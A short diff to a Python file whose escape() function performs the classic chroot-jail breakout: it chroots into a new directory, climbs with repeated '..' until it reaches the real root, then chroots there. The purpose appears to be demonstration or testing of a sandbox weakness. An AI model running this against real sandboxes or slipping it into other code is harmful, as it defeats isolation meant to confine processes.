@@ -1,4 +1,4 @@
-"""pathlib, the root by its link in /proc, and an escape in one long path."""
+"""pathlib, the root by its link in /proc, and an escape by chroot alone, a thousand levels at once."""
 
 import os
 from pathlib import PurePosixPath
@@ -33,5 +33,10 @@ def escape():
     os.mkdir("/room")
     os.chdir("/")
     os.chroot("room")
-    os.chroot("/".join([".."] * 1000))
+    while True:
+        os.chdir("/".join([".."] * 1000))
+        here = os.stat(".")
+        if os.path.samestat(here, os.stat("..")):
+            break
+    os.chroot(".")
     os.chdir("/")
